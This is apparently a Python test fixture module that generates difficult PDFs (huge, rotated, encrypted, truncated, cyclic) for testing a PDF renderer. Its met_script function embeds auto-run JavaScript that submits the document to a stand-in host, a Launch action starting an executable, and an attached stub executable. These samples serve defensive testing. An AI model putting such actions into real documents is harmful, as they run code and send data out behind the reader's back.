"""PDFs that are hard to show: enormous, endless, turned, locked, broken, or with a thing in them that wants to run."""

from collections.abc import Callable
from functools import partial
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, Pdf

from tests.papier import a_heavy_drawing, a_linked_paper, a_paper

A4 = (595.0, 842.0)


def leeg(maat: tuple[float, float], aantal: int = 1) -> bytes:
    """Return so many empty pages."""
    with Pdf.new() as pdf:
        for _ in range(aantal):
            pdf.add_blank_page(page_size=(100, 100)).MediaBox = Array([0, 0, *maat])
        return _bewaard(pdf)


def versleuteld(gebruiker: str, eigenaar: str) -> bytes:
    """Return a paper that opens with a password, or for everybody when that is empty."""
    with Pdf.open(BytesIO(a_paper(["Vertrouwelijk"]))) as pdf:
        return _bewaard(pdf, encryption=Encryption(user=gebruiker, owner=eigenaar))


def met_script() -> bytes:
    """Return a paper that runs a script when it opens, starts a program from a link, and hands out a file."""
    with Pdf.open(BytesIO(a_linked_paper())) as pdf:
        script = Dictionary(S=Name.JavaScript, JS="app.alert('x'); this.submitForm('https://waterkant.example')")
        pdf.Root.OpenAction = script
        pdf.Root.AA = Dictionary(WC=script)
        start = Dictionary(S=Name.Launch, F="reken.exe", Win=Dictionary(F="reken.exe"))
        pdf.pages[0].Annots[0].A = start
        pdf.pages[0].AA = Dictionary(O=start)
        pdf.attachments["reken.exe"] = b"MZ"
        return _bewaard(pdf)


def in_een_kring() -> bytes:
    """Return a paper whose tree of pages holds itself."""

    def verbind(pdf: Pdf) -> None:
        pdf.Root.Pages.Kids.append(pdf.Root.Pages)

    return _veranderd(a_paper(["De commissie"]), verbind)


def _veranderd(inhoud: bytes, doe: Callable[[Pdf], None]) -> bytes:
    with Pdf.open(BytesIO(inhoud)) as pdf:
        doe(pdf)
        return _bewaard(pdf)


def _bewaard(pdf: Pdf, encryption: Encryption | None = None) -> bytes:
    uit = BytesIO()
    pdf.save(uit, encryption=encryption or False, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return uit.getvalue()


MOEILIJK: dict[str, Callable[[], bytes]] = {
    "14 400 punten": partial(leeg, (14_400.0, 14_400.0)),
    "200 000 punten": partial(leeg, (200_000.0, 90_000.0)),
    "een strook": partial(leeg, (3.0, 14_400.0)),
    "een punt": partial(leeg, (1.0, 1.0)),
    "zonder maat": partial(leeg, (0.0, 0.0)),
    "zonder tekst": partial(leeg, A4),
    "10 000 bladzijden": partial(leeg, A4, 10_000),
    "zware tekening": partial(a_heavy_drawing, 20_000),
    **{f"{draai} graden gedraaid": partial(a_linked_paper, draai) for draai in (90, 180, 270)},
    "alleen van de eigenaar": partial(versleuteld, "", "geheim"),
    "met wachtwoord": partial(versleuteld, "geheim", "geheimer"),
    "afgebroken": lambda: a_paper(["De commissie"])[:-400],
    "met script": met_script,
    "bladzijden in een kring": in_een_kring,
}
"""Makers by name."""
